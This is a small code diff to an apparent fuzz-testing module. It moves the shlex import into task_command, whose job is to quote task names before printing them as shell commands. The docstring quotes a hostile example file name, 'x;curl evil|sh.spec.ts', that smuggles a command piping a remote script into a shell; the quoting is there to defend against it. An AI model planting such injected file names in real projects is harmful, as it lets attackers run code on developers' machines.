@@ -6,7 +6,6 @@ fuzz tasks (fuzz_tasks.py).
 from __future__ import annotations
 
 import posixpath
-import shlex
 import sys
 from dataclasses import replace
 from typing import Any
@@ -25,6 +24,8 @@ def task_command(command: str, task: str) -> str:
     carries a spec's path, which a spec author chose (``x;curl evil|sh.spec.ts``): quoted, so a
     line copied into a shell runs that task and nothing else. Ordinary names need no quotes and
     print as they are."""
+    import shlex  # only a failure's hint or a repro line needs it (issue 40)
+
     return f"{command} {shlex.quote(task)}"
 
 
